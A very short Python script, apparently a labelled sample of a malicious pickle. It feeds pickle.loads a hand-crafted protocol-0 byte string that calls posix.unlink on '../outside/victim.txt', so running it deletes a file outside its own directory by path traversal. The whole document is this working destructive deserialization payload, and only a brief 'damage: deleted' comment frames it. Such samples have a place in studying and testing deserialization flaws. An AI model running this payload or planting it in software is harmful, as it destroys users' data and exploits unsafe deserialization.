# A pickle written by hand, in the oldest protocol.
# damage: deleted
import pickle

pickle.loads(b"cposix\nunlink\n(S'../outside/victim.txt'\ntR.")
